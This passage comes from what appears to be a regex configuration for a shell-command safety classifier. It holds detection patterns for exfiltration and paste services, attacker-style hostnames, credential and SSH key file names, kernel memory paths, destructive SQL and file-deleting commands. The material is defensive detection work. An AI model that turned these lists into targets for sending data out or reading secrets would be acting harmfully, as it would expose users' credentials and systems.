|sprunge\\\\.us|dpaste\\\\.(org|com)|webhook\\\\.site|requestbin\\\\.(com|net)|requestcatcher\\\\.com|pipedream\\\\.net|beeceptor\\\\.com|interact\\\\.sh|oast\\\\.\\\\w+|burpcollab\
orator\\\\.net|ngrok(-free)?\\\\.(io|app|dev)|trycloudflare\\\\.com|serveo\\\\.net|localtunnel\\\\.me|loca\\\\.lt|anonfiles\\\\.com|gofile\\\\.io|bashupload\\\\.com|temp\\\\.sh|cat\
box\\\\.moe|filebin\\\\.net|oshi\\\\.at|wetransfer\\\\.com|discord(app)?\\\\.com|hooks\\\\.slack\\\\.com|api\\\\.telegram\\\\.org|dnslog\\\\.cn|canarytokens\\\\.com)$|^\\\\d{1,3}(\\\\.\\\\\
d{1,3}){3}$|(^|[.-])(evil|attack(er)?|exfil\\\\w*|malicious|malware|c2|hacker|phish\\\\w*|leak\\\\w*|collect(or)?|drop|steal\\\\w*|bad(actor|guy)?|rogue|sink)([.-]|\\\\d|\
$)","i"],"file_folder":["(^|/)(bin|sbin|scripts|script|hooks|\\\\.husky|tools|ci)$"],"daemon_path":["^/(?:usr/)?(?:local/)?(?:sbin|lib(?:exec)?)/"],"lsof_port":["\
^(?:-\\\\w*i)?(?:[46]?(?:tcp|udp))?(?:@[\\\\w.-]+)?:(\\\\w+)$","i"],"few_lines":["^(?:-(?:n ?|-lines[= ])?(?:1?\\\\d|20|\\\\u{FFFC}.*))?$","u"],"one_line":["^(?:-n \\\\d{1,\
2}p|\\\\d{1,2}!d)$"],"matching_lines":["^(?:-n )?/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*!d$|^(?:-n|--quiet|--silent) (?:/((?:[^/\\\\\\\\]|\\\\\\\\.)*)/\\\\s*p|s([/|#,])((?:(?!\\\\3)[^\\\\\\\
\\\\\\n]|\\\\\\\\.)*)\\\\3.*p)$"],"word_everywhere":["^(root|pid|usr|bin|sbin|lib)$","i"],"ps_choice":["^-\\\\w*[pq](?:[\\\\d\\\\u{FFFC}]|$)|^-C|^%%|^--(?:p?pid|quick-pid)(?:=\
|$)|^\\\\d+(?:,\\\\d+)*$|^\\\\u{FFFC}","u"],"ps_all":["^-[aefFlAjwHTLcy]*[eA]|^a?u?x"],"find_by_name":["^-(name|iname|path|ipath|wholename|iwholename|regex|iregex)$"]\
,"find_by_property":["^-([acm](time|min)|newer\\\\w*|anewer|cnewer|user|uid|samefile|used)$"],"choosing_filter":["^(?:[efz]?grep|rg|head|[gm]?awk|sed|fzf|shuf|tes\
t|\\\\[\\\\[?|cmp|diff|git)$"],"find_action":["^-(?:print0?|printf|fprint0?|fprintf|f?ls|exec|execdir|ok|okdir|delete)$"],"find_command":["^-(exec|execdir|ok|okdir)\
$"],"deleting_program":["^(.*/)?(rm|unlink|shred|rimraf|srm)$"],"temp_root":["^/(private/)?(tmp|var/tmp|dev/shm)/*$"],"supplying_wrapper":["^(g?xargs|find|fd|pa\
rallel|[gm]?awk)$"],"fd":["^fd(find)?$"],"search_program":["^(find|ls|git|fd|fdfind)$"],"own_program":["^(?![~/])(?!.*(?:node_modules|vendor|env)/).*/"],"subcom\
mand_word":["^[a-zA-Z][\\\\w:.-]*$"],"command_argument":["^(?:-{1,2}[\\\\w-]|[/~.$]|\\\\+|[\\\\w-]+[/.=:]|[a-z][a-z0-9]*-[a-z])"],"command_end":["^(?:and|then|to|so|bec\
ause|which|in|for|on|but|with|before|after|\\\\d+[.)])$"],"valuable_things":["^(?:(?:private|ssh) keys?|api keys|all secrets|the secrets|stored (?:secrets|passwor\
ds)|saved passwords|(?:my |user |stored |saved |the )?credentials|\\\\.env file|the remote)$"],"announcement":["(?:^|\\\\s)(?:(?:i|we|you|agent|the agent|then) (?:w\
ill|shall|must|should|can|could|am going to|are going to|plan to|intend to|want to|would like to|need to|have to|ought to|am about to|are about to|'ll)|i'll|we'\
ll|you'll|i'd like to|we'd like to|i'm going to|we're going to|i'm about to|we're about to|i'm gonna|we're gonna|i'd|let's|lets|let me|let us|gonna|going to|abo\
ut to|need to|needs to|need you to|want you to|like you to|have to|got to|gotta|can you|could you|would you|will you|please|(?:plan|goal|task|idea|step|approach\
|next|solution|fix|strategy|aim|objective|job|thing|way|option|move) is to|try to|proceed to|continue to|make sure to|be sure to|remember to|don't forget to|do \
not forget to|don't hesitate to|do not hesitate to|feel free to|time to|best to|easiest to|simplest to|(?:then|now|next|first|finally|so|and) (?:we|i)|start by|\
begin by|by|i am|i'm|we are|we're|currently|now|ich|wir|je vais|nous allons|il faut|je dois|voy a|vamos a|hay que)$"],"own_announcement":["\\\\b(?:i'll|we'll|let \
me|let's|i'm going to|we're going to|(?:i|we) (?:will|need to|have to|must|am going to|are going to))\\\\b"],"signal_option":["^-(\\\\d+|(SIG)?(HUP|INT|QUIT|ILL|TRA\
P|ABRT|BUS|FPE|KILL|USR[12]|SEGV|PIPE|ALRM|TERM|CHLD|CONT|STOP|TSTP))$","i"],"affirmative_value":["^(client|server|true|t|1|yes)$","i"],"negative_value":["^(fal\
se|f|0|no|none|off)$","i"],"bare_letter":["^-\\\\w*[rvqayzR]$"],"request_statement":["^\\\\s*DROP\\\\s+(DATABASE|TABLE|SCHEMA|USER|MEASUREMENT|SERIES|VIEW|COLUMN)\\\\b|\
^\\\\s*(TRUNCATE\\\\s+\\\\S|DELETE\\\\s+FROM\\\\s|ALTER\\\\s+TABLE\\\\s|UPDATE\\\\s+\\\\S+\\\\s+SET\\\\s|GRANT\\\\s|REVOKE\\\\s)","i"],"request_fields":["(?:^|[?&])(?:query|q|sql|stateme\
nt|stmt)=([^&#]*)|\\"(?:query|q|sql|statement|stmt)\\"\\\\s*:\\\\s*\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.){1,4000})\\"","gi"],"sql_path":["/(?:sql|query|statement|exec\\\\w*)\\\\b","i"],"o\
wn_server":["^(?:https?://)?(?:localhost|127\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+)(?::(?!8123|8086|9000|9200|7474|8529|4200)\\\\d+)?(?:/|$)"],"sending_command":["^\\\\s*-?(?:put|mp\
ut|reput|send|append|mirror\\\\s+(?:-\\\\w*R\\\\w*|--reverse))\\\\s+(.*)$"],"editor_shell":["^\\\\s*:?\\\\s*(?:[\\\\d,.$%]*!|[rw]\\\\s*!|silent!?\\\\s*!|term(?:inal)?\\\\s+|call\\\\s\
+system\\\\([\\"']|lua\\\\s+os\\\\.execute\\\\([\\"'])\\\\s*(.+?)(?:[\\"']\\\\))?$|^\\\\s*:?\\\\s*(?:sh(?:ell)?|term(?:inal)?)!?\\\\s*$"],"container_engine":["^(?:docker|podman|nerd\
ctl)$"],"plain_volume":["^[A-Za-z0-9][\\\\w.-]*:"],"bound_volume":["\\\\bvolume create\\\\b.* (?:-[odcH]|--(?:opt|driver|type|context|host)\\\\b)"],"database_image":["^\
(?:[\\\\w.-]+/)*(?:postgres|postgis|pgvector|timescaledb|mysql|mariadb|percona|redis|valkey|keydb|mongo|clickhouse-server|memcached)(?:[:@]|$)"],"container_networ\
k":["^--?(?:net|network|link|env-file)\\\\b|(?:HOST(?!_AUTH_METHOD)|UR[IL]|ADDR|DSN|SERVICE)\\\\w*=|^[A-Z_]+=\\\\S*://|\\\\.my\\\\.cnf|pgpass|pg_service|psqlrc"],"input_n\
ame":["^(?:[-=]|/dev/stdin)$"],"indirect_runs":["\\\\b(?:exec\\\\.Command(?:Context)?|Command::new|ProcessBuilder|Runtime\\\\S*\\\\.exec|Process\\\\.(?:run|start)(?:Sync)\
?|os\\\\.execute|io\\\\.popen)\\\\s*\\\\(\\\\s*(?:ctx\\\\s*,\\\\s*)?(?![\\\\s\\"'\`)])|\\\\b(?:system2?|popen|execv[pe]*|System\\\\.(?:cmd|shell)|os:cmd|Open3\\\\.\\\\w+)\\\\s*\\\\(\\\\s*(?![\\\
\\s\\"'\`)])"],"command_texts":["([\\"'])((?:sudo\\\\s+)?(?:rm|dd|shred|mkfs\\\\S*|git|chmod|chown|curl|wget)\\\\s(?:(?!\\\\1)[^\\\\\\\\\\\\n]){1,500})\\\\1"],"home_lookup":["\\\\b(?\
:System\\\\.)?(?:homedir|user_home!?)\\\\(\\\\)|\\\\$(?:HOME|env:USERPROFILE|env:HOME)\\\\b|\\\\bENV\\\\[[\\"']HOME[\\"']\\\\]|\\\\b(?:(?:std::)?env::|os[.:]|Sys\\\\.|System\\\\.)?(?:[\
gG]etenv|get_env!?|var(?:_os)?|getProperty)\\\\s*\\\\(?\\\\s*[\\"'](?:HOME|user\\\\.home)[\\"']\\\\s*\\\\)|\\\\b(?:Platform|ProcessInfo\\\\.processInfo|System)\\\\.environment\\\\[[\\\
"']HOME[\\"']\\\\]|\\\\$(?:::)?env\\\\(HOME\\\\)|\\\\b(?:path\\\\.expand|expanduser|expand-file-name)\\\\s*\\\\(?\\\\s*[\\"']~[\\"']\\\\s*\\\\)","g"],"git_settings":["^core\\\\.(sshcomman\
d|editor|pager|askpass|fsmonitor|gitproxy|alternaterefscommand)$|^(sequence\\\\.editor|diff\\\\.external|gpg(\\\\..+)?\\\\.program|pager\\\\..+|credential(\\\\..*)?\\\\.helpe\
r)$|^(diff|merge|filter|difftool|mergetool)\\\\..+\\\\.(cmd|command|textconv|driver|clean|smudge|process|path)$|^(uploadpack\\\\.packobjectshook|sendemail\\\\.(tocmd|cc\
cmd|headercmd))$","i"],"production_name":["(?:^|[^a-z])(?:prod|production|live)(?:[^a-z]|$)","i"],"standard_input":["^(?:-|/dev/stdin|/proc/self/fd/0|/dev/fd/0)\
$"],"shell_program":["^(?:ba|da|z|k|mk|a|rba|ya)?sh$"],"output_device":["^/dev/(?:stdout|stderr|fd/[12])$"],"reliable_command":["^(?::|true|echo|printf|export|d\
eclare|local|set|alias|mkdir(?= -p))(?= |$)"],"changing_builtin":["^(?:set|shopt|source|\\\\.)$"],"error_exit":["^set (?:-\\\\w*e\\\\w*|-\\\\w*o errexit)(?: -\\\\w+| -o \\\
\\w+| pipefail)*$"],"waiting_command":["^(?:wait|sleep|usleep|break|exit|return|read|inotifywait|fswatch|select|wait4|flock|nc|curl|wget|timeout)$"],"endless":["\
^yes\\\\b|^(?:cat|dd|tr|base64|xxd|od) (?!.*\\\\bcount=).*/dev/(?:zero|u?random|full)(?: |$)"],"early_code":["\\\\b(?:BEGIN|CHECK|INIT|UNITCHECK|use|no|require)\\\\b"],\
"checking_option":["^(?:c|check|[eElwW]|MO=\\\\w+)$"],"process_name":["[\\"'/|(^](?!name|pid|cmd|exe|comm|info)([a-z][\\\\w.-]{1,30})(?=[\\"'/|)$])","g"],"git_filter"\
:["^(?:stripspace|column|interpret-trailers|mailinfo|fmt-merge-msg)$"],"harmless":["^[\\\\w.-]*%[\\\\d.]*[gfe][\\\\w.-]*$|^[\\\\s,:.-]$"],"jq_choosing":["(?:[!=<>]=\\\\s*\
|\\\\[\\\\s*)\\\\$\\\\w+|(?:[!=<>]=\\\\s*|\\\\[\\\\s*|\\\\.\\\\s*)\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:test|startswith|endswith|contains|inside|has|split|r?index|match|capture|scan|[lr]tr\
imstr|error|getpath|del)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"|(?:input_filename|str[pf]time)\\\\s*\\\\(\\\\s*\\"(?:[^\\"\\\\\\\\]|\\\\\\\\.)*\\"","g"],"plain_text":["^[\\\\w\\\\u{FFFC\
}][\\\\w\\\\u{FFFC}.@:=,-]*$|^(?:[\\\\s,:=@._-]|\\\\\\\\[nt])?$","u"],"jq_making":["\\\\b(?:implode|fromjson|ltrimstr|rtrimstr|ascii_downcase|ascii_upcase|gsub|sub|reverse|\
tojson|input)\\\\b|@base\\\\d+d|@uri"],"template":["[._-](example|sample|template|dist|tpl|tmpl|defaults?)$"],"ssh":["(^|/)\\\\.ssh(/|$)"],"ssh_settings":["/(config|k\
nown_hosts[^/]*|authorized_keys2?|[^/]+\\\\.pub|environment|rc)$"],"memory":["^/proc/[^/]+/mem$|^/dev/k?mem$|^/proc/kcore$"],"temp":["^/(tmp|var/tmp|var/folders|p\
rivate/tmp|private/var/folders|dev/shm|run/user/\\\\d+)(/|$)"],"package_cache":["^/var/(cache|lib/apt/lists)/"],"system_tree":["^/([^/]+|(usr|var|etc|system|libra\
ry)/[^/]+|usr/lib(32|64)?/[^/]+-linux-gnu[^/]*|var/lib/(dpkg|rpm|pacman|apt))$"],"local_system":["^/(usr/local|usr/src|opt|srv|var/www|etc/apt/(sources\\\\.list\\\\\
.d|keyrings|trusted\\\\.gpg\\\\.d|preferences\\\\.d|apt\\\\.conf\\\\.d)|usr/share/keyrings)(/|$)"],"disposable_name":["^\\\\.coverage\\\\..+$|^(tmp|temp|test|scratch|demo|dum\
my|build|dist|out|cmake-build|cache|bazel)[-_.].+$|.+[-_.](tmp|temp|cache|build|dist|out|output|bak|results?|coverage|artifacts?|generated)$|.+\\\\.(egg-info|dist\
-info|pyc|pyo|o|obj|a|so|class|log|tmp|temp|bak|orig|rej|swp|swo|tsbuildinfo|gcda|gcno|profraw|prof|out|pid|lock|d|map|cache|snap|tgz|whl|dll|dylib|exe|wasm|min\
\\\\.js|min\\\\.css|test\\\\.db)$|.+~$|^\\\\.#.*|^core\\\\.\\\\d+$|^test[_-]?repo.*|^my[-_]?test.*"],"local_connection":["^/dev/(tcp|udp)/(localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\
\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"],"other_place":["^(?:-h|-u$|--host|--login-path|\\\\w*(?:HOST|URL|SERVICE)\\\\w*=)|^(?!db[.[][^/:]*\\\\()\\\\S*[.:@=]\\\\S*$|\\\\b(?:connec\
t|Mongo)\\\\s*\\\\(|\\\\b(?:host|hostaddr|service)=|\\\\\\\\c(?:onnect)?\\\\b|^[^ ]*\\\\uFFFC"],"local_wrapper":["^(?:(?:ba|da|z|a)?sh|env|timeout|nohup|nice|time|xargs|find|\
awk|python[\\\\d.]*|node|perl|ruby|php|sudo|su)$"],"key_scripts":["\\\\bredis\\\\.p?call\\\\s*\\\\(\\\\s*[\\"']flush(?:all|db)\\\\b|[\\"'](?:KEYS|SCAN|HSCAN|SSCAN|ZSCAN)[\\"'][\\\
\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|\\\\b(?:for|while)\\\\b[\\\\s\\\\S]*[\\"'](?:DEL|UNLINK)[\\"']|[\\"'](?:DEL|UNLINK)[\\"']\\\\s*,\\\\s*unpack\\\\s*\\\\(\\\\s*redis\\\\.p?call\\\\b|\\\\bredi\
s\\\\.p?call\\\\s*\\\\(\\\\s*(?![\\"'])[\\\\s\\\\S]*\\\\bflush(?:all|db)\\\\b","i"],"credential_name":["^id_(rsa|dsa|ecdsa|ed25519)(_sk)?([._-].*)?(?<!\\\\.pub)$|\\\\.(p12|pfx|jks|k\
eystore|kdbx|ppk|keychain|keychain-db|key)$|^(?!.*(cert|chain|\\\\bca\\\\b|bundle|public|\\\\bpub\\\\b|\\\\bcrt\\\\b|dhparam|roots?)).*\\\\.pem$|^(app|prod|production|staging\
|dev|db|my)?[-_.]?(secrets?|passwords?|passwd|tokens?)(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv|cfg|conf|properties|xml|d\
b|sqlite)$|^(app|prod|production|staging|dev|db|my)?[-_.]?(api|access)[-_]?keys?(\\\\.(prod|production|staging|dev|local|enc))?\\\\.(json|ya?ml|toml|ini|txt|env|csv\
|cfg|conf|properties|xml|db|sqlite)$|^(service[-_]?account|client[-_]?secrets?|gcp[-_]?key|sa[-_]?key|firebase-adminsdk).*\\\\.json$|(^|[-_.])(api|secret|private|\
access|auth)[-_]?(key|token)s?(\\\\.(json|txt|ya?ml|pem|key|env))?$|^vault[-_]pass(word)?(\\\\.txt)?$|^\\\\.vault[-_]pass.*|\\\\.kubeconfig$"],"fixture_folder":["(^|/)(\
fixtures?|__fixtures__|testdata|test[-_]data|test[-_]fixtures)/"],"fixture_key":["^(fake|dummy|mock|example|sample|test|invalid|expired|self[-_]?signed|server|c\
lient|localhost|leaf|agent\\\\d)"],"windows_folder":["[*?[{]|^(?:inetpub|documents and settings|windows|program ?files.*|programdata|system.*|users|boot|efi|recov\
ery|perflogs|\\\\$.*)$"],"package_store":["^\\\\.(npm|yarn|pnpm|cargo|rustup|m2|gradle|nuget|cache|node-gyp|electron|cypress|conda)$"],"counting_flag":["^(?:-q|-c|-\
-quiet|--count)$"],"listing_flag":["^(?:-l|--files-with-matches|--files)$"],"printing_names":["^sed (?:-n (?=.*p \\\\S+$))?(?:-E )?s(.)=\\\\.\\\\*\\\\1=?(?:(?!\\\\1)[^&\\\\\
\\\\;\\\\n])*\\\\1[gp]?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^jq (?:-\\\\w+ )*(?:\\\\.(?:data|stringData)(?: ?\\\\| ?| ))?(?:keys(?:_unsorted)?(?:\\\\[\\\\])?|length)$|^cut (?:\
-z )?(?:-d ?= -f ?1|-f ?1 -d ?=)(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)?)?$|^[ef]?grep (?:-\\\\w*o\\\\w* |-o -E |-E -o )\\\\^(?:export )?(?:\\\\[\\\\^=#?\\\\]|\\\\[\\\\^#=\\\\]|\\\\[(?:A\
-Z|a-z|0-9|_)+\\\\]|[\\\\w()]|\\\\\\\\w)+(?:[*+]|\\\\\\\\\\\\+)?\\\\)?=?(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)*$|^[gm]?awk -F ?=(?: (?:\\\\S*\\\\/)?\\\\.env(?:\\\\.\\\\w+)*)* (?:NF|\\\\/[^/{}\
]*\\\\/|!\\\\/\\\\^#\\\\/(?: ?&& ?NF)?)? ?\\\\{ ?print \\\\$1;? ?\\\\}$"],"sourcing":["^reads (?:source|\\\\.) (?:\\\\.?/)?(?:[\\\\w.-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"line_filter":["\
^(?:cat|[ef]?grep(?! -\\\\S*[oPzr])|rg(?! -\\\\S*[or])|sort(?!.* (?:-\\\\w*o|--output))|uniq(?! [^-]| .* [^-])|head(?! -c)|tail(?! -c)|env|kubectl get|oc get) ?"],"se\
cret_listing":["^(?:kubectl|oc)$"],"counter":["^(?:wc|sort|head|tail|uniq|[ef]?grep)$"],"file_test":["^(?:test|\\\\[) (?:! )?-[ef] \\\\S*\\\\.env"],"settings_file":["\
(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"text_filter":["^(?:cat|g?sed|envsubst|[gm]?awk|[ef]?grep)$"],"copying":["^writes cp (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.?env[\\\\w.-]*[._-](\
?:example|sample|template|tpl|dist|defaults?) (?:\\\\./)?(?:[\\\\w-]+/)*\\\\.env(?:\\\\.[\\\\w-]+)*$"],"awk_comparison":["(?:\\\\$\\\\w+|\\\\bNR)\\\\s*==\\\\s*(?:\\"[^\\"\\\\n]{2,}\\"|\\\
\\d+|[A-Za-z]\\\\w*|\\\\u{FFFC})|\\\\bindex\\\\(\\\\s*\\\\$\\\\w+\\\\s*,\\\\s*\\"[^\\"\\\\n]{2,}\\"","u"],"awk_field":["^\\\\s*\\\\{\\\\s*print\\\\s*(?:\\\\$(?:\\\\d|NF))?\\\\s*;?\\\\s*\\\\}\\\\s*$"],"sed\
_command":["[\\\\s;{}!]+|#.*|\\\\d+(?:~\\\\d+)?|\\\\$|,\\\\s*[+~]?|I(?=[\\\\s,!a-z])|(?:(?=\\\\/)|\\\\\\\\)(?<quote>[\\\\s\\\\S])(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])\
*\\\\]|(?!\\\\k<quote>)[^\\\\\\\\[])*\\\\k<quote>|s(?<delimiter>[^\\\\w\\\\s\\\\\\\\])(?<pattern>(?:\\\\\\\\[\\\\s\\\\S]|\\\\[\\\\^?\\\\]?(?:\\\\[:\\\\w+:\\\\]|[^\\\\]\\\\n])*\\\\]|(?!\\\\k<delimiter>)[^\\\\\\\
\\[])*\\\\k<delimiter>)(?<replacement>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<delimiter>)[^\\\\\\\\])*\\\\k<delimiter>)(?<flags>[gpeimIM\\\\d]*)(?:w(?<target>.*))?|(?<other>y(?<mark>[^\\\\w\\\
\\s\\\\\\\\])(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>(?:\\\\\\\\[\\\\s\\\\S]|(?!\\\\k<mark>)[^\\\\\\\\])*\\\\k<mark>|[aic](?:\\\\\\\\\\\\n|.)*|[N=gGhHxzF]|l\\\\s*\\\\d*|[:btTv][^;\\\\n}]\
*)|e(?<command>.*)|[wW](?<output>.*)|[rR](?<input>.*)|(?<select>[pdnPD]|[qQ]\\\\s*\\\\d*)","y"],"brace_literal":["\\\\\\\\[\\\\s\\\\S]?|'[^']*'?|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\]\
)*\\"?|\\\\x60(?:\\\\\\\\[\\\\s\\\\S]|[^\\\\x60\\\\\\\\])*\\\\x60?|\\\\$\\\\{(?:[^{}]|\\\\{(?:[^{}]|\\\\{[^{}]*\\\\})*\\\\})*\\\\}|\\\\$\\\\((?:[^()]|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))*\\\\)|[^\\\\\\\\'\\"\\\\x\
60$\\\\x7b\\\\x7d,]+|[\\\\s\\\\S]","y"],"printf_escape":["\\\\\\\\(?:x([\\\\da-fA-F]{1,2})|u([\\\\da-fA-F]{1,4})|U([\\\\da-fA-F]{1,8})|0?([0-7]{1,3})|([\\\\s\\\\S]))","g"],"printf_di\
rective":["%%|%[-+ #0]*(\\\\d*|\\\\*)(?:\\\\.(\\\\d+|\\\\*))?([a-zA-Z])|\\\\\\\\(?:x\\\\p{AHex}{1,2}|u\\\\p{AHex}{1,4}|U\\\\p{AHex}{1,8}|[0-7]{1,3}|.)","gsu"],"format_field":["%%|%\
(?!x|\\\\d[\\\\da-f])[-+ #0'^:_<>|\\\\d.]*(?:[Cw]?\\\\([^)]*\\\\)|\\\\{[^}]*\\\\}|[acCGg]?[A-Za-z])|%","g"],"jq_text":["\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"","g"],"jq_interpolat\
ion":["\\\\\\\\\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)","g"],"long_line_separator":["\\\\\\\\[\\\\s\\\\S]|'[^']*(?:'|$)|\\"(?:\\\\\\\\[\\\\s\\\\S]|[^\\"\\\\\\\\])*(?:\\"|$)|(?<![^\\\\s])#.*|[\\\\n;]|(?\
<!=)\\\\((?!\\\\))|(?<!\\\\()\\\\)|(?<!>)&(?!>)","g"],"long_line_prefix":["^(?:(?:if|then|elif|else|do|while|until|time|!|\\\\{)\\\\s+|\\\\(\\\\s*)+"],"here_document":["(<<-?[ \
\\\\t]*(?:\\\\\\\\|'|\\")?(\\\\w+)[^\\\\n]*)(?:\\\\n(?:(?:[\\\\s\\\\S]*?\\\\n)?[ \\\\t]*\\\\2[ \\\\t]*(?=\\\\n|$)|[\\\\s\\\\S]*)|$)","g"],"always_true":["^(?:(?:\\\\/usr)?(?:\\\\/bin\\\\/)?true|:|\\\
\\[ (?:1|true|x) \\\\]|test 1|echo.*)$"],"always_false":["^(?:\\\\/bin\\\\/)?false$"],"deleting_call":["\\\\b(?:rm_rf|remove\\\\w*|unlink|delete\\\\w*|RemoveAll|execute|syst\
em)\\\\b"],"generated_statement":["'\\\\s*((?:drop|truncate|delete|alter|revoke|grant)\\\\s[^']*)'","gi"],"package_runner":["^(npx|bunx|pnpx|uvx|npm|pnpm|yarn|bun)$"]\
,"host":["^(?:[a-z][a-z0-9+.-]*:\\\\/\\\\/)?(?:[^/@\\\\s]*@)?(\\\\[[0-9a-f:]+\\\\]|[A-Za-z0-9.-]+)(?::\\\\d+)?(?:[/?#:].*)?$"],"whole_folder":["^(\\\\*+|\\\\.\\\\*|\\\\?\\\\*|\\\\.\\\\[[\
!^]\\\\.\\\\]\\\\*?|\\\\.\\\\?\\\\?\\\\*|\\\\{\\\\*,\\\\.\\\\*\\\\}|\\\\*\\\\.\\\\*|!\\\\(.*\\\\))$"],"making_word":["^(?:create|start|up|init|declare|add|run|new|mb|update-ref)$|^--create$"],"r\
eferring_word":["^(?:remote|context|config.*)$"],"name_maker":["^(?:volume|network) create$"],"new_folder":["^/tmp/tmp[.]\\\\uFFFC(?:/(?!\\\\.\\\\.)[\\\\w.-]+)*$"],"obl\
igation":["(?:needs? to|should|must|has to|have to|(?:is|are) to) be(?: \\\\w+ly)?$"],"list_item":["^[ \\\\t]*(?:[-*+\\u2022\\u2013]|\\\\(?\\\\d{1,3}[.):]|\\\\(?[a-z][.)]|\\\
\\[[ x]\\\\]|step \\\\d{1,3}[:.)-]?)[ \\\\t]+(?:\\\\[[ x]\\\\][ \\\\t]+)?","i"],"heading":["^[ \\\\t]{0,3}#{1,6}[ \\\\t]+"],"code_fence":["^[ \\\\t]*(\`{3,}|~{3,})[ \\\\t]*([\\\\w+-]*)\
"],"prompt":["^[ \\\\t]*\\\\$[ \\\\t]+(?=\\\\S)"],"text_word":["(\`{1,2})([^\`\\\\n]{1,2000}?)\\\\1|(?<![\\\\w])[\\"\\u201c]([^\\"\\u201d\\\\n]{1,400})[\\"\\u201d]|(?<![\\\\w])'([^'\\\\n]{\
1,200})'(?!\\\\w)|[^\\\\s\`\\"\\u201c\\u201d,;:()!?\\u2014]+(?:[:!?][^\\\\s\`\\"\\u201c\\u201d,;()!?\\u2014]+)*|[,;:()!?\\u2014]","gu"],"code_space":["[ \\\\t\\\\r\\\\f\\\\v\\\\\\\\\\\\u00a0]\
+","y"],"code_name":["[\\\\p{L}_][\\\\p{L}\\\\p{N}_]*[?!]?","uy"],"code_number":["0[xX][\\\\da-fA-F_]+|0[oO]?[0-7_]+(?![.\\\\d])|0[bB][01_]+|\\\\d[\\\\d_]*(?:\\\\.\\\\d+)?(?:[eE]\
[+-]?\\\\d+)?","y"],"code_mark":["\\\\.\\\\.\\\\.|[=!]==|<=>|(?:\\\\*\\\\*|<<|>>|\\\\|\\\\||&&|\\\\?\\\\?|[-+*/.%|&^=!<>:])=|[-=]>|=~|\\\\?\\\\.|([:&|?+<>*.-])\\\\1|\\\\S","uy"],"continuin\
g_mark":["^(?:[.,+*/%&|=<>?:([-]|=>|->|\\\\?\\\\.|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+=|\\\\.\\\\.\\\\.|==|===|::)$"],"continued_mark":["^(?:\\\\.|\\\\?\\\\.|->|&&|\\\\|\\\\||\\\\?\\\\?|\\\\+|\\\\?|:|\\\\.\\\
\\.\\\\.)$"],"escape":["\\\\\\\\(?:x([\\\\da-fA-F]{2})|u([\\\\da-fA-F]{4})|u\\\\{([\\\\da-fA-F]{1,6})\\\\}|([0-7]{1,3})|(\\\\n)|(.))","gsu"],"quote":["(?<close>['\\"\`])","y"],"pref\
ixed_quote":["(?<prefix>[rbfuRBFUtT]{0,2})(?<close>'''|\\"\\"\\"|'|\\")","y"],"quoting_q":["(qq|qx|qw|qr|q|m|tr|y|s)([^\\\\w\\\\s,;=>)]|\\\\s+[{([<|/!])","y"],"quoting_pe\
rcent":["(%[wWiIqQxr]?)([({[<|!/])","y"],"quoting_none":["(?!)","y"],"input_line":["<\\\\$?\\\\w*>","y"],"slashed_pattern":["/(?:\\\\\\\\.|\\\\[(?:\\\\\\\\.|[^\\\\]\\\\\\\\\\\\n]){0,\
300}\\\\]|[^/\\\\\\\\[\\\\n]){0,300}/[a-z]*","y"],"opening_f_string":["\\\\{(?!\\\\{)","y"],"opening_template":["\\\\$\\\\{","y"],"opening_hash":["#\\\\{","y"],"opening_dollar":[\
"\\\\{(?=\\\\$)|@\\\\{(?=\\\\[)","y"],"opening_none":["(?!)","y"],"dollar_name":["(@ARGV)|\\\\$(?:\\\\{(\\\\w+)\\\\}|(\\\\w+)(?:->\\\\w+)?)(\\\\[[^\\\\]\\\\n]{0,40}\\\\]|\\\\{[^}\\\\n]{0,40}\\\\\
})?","y"],"table_deed":["^(?:drop-table|truncate|delete-all|update-all)$"],"temporary":["^TEMP(?:ORARY)?$"],"no_rows":["\\\\b(?:LIMIT 0|WHERE \\\\(* ?(?:FALSE|0|1 =\
 [02]|0 = 1|1 < > 1))(?! ?[\\\\w=<>.])","i"],"true_condition":["^(?:.*\\\\bor *)?(?:\\\\(* *)(?:1|true|'?(\\\\w+)'? *= *'?\\\\1'?|1 *< *2|not false)(?: *\\\\)*)$","i"],"cli\
ent_command":["(?:\\\\\\\\!|\\\\.shell|\\\\.system|system)[ \\\\t]+(?<shell>.*)|\\\\\\\\(?:copy|o|w|g)\\\\w*[ \\\\t]*(?:\\\\|[ \\\\t]*(?<piped>.*)|(?:.{0,4000}?\\\\b(?:program|PROGRAM)\
[ \\\\t]+'(?<program>(?:[^'\\\\n]|'')*)')?.*)","y"],"sql_token":["\\\\s+|--[^\\\\n]*|#(?=\\\\s|$)[^\\\\n]*|/\\\\*!\\\\d*|/\\\\*[\\\\s\\\\S]*?(?:\\\\*/|$)|\\\\*/|(?<quote>['\\"\\\\x60])(?<qu\
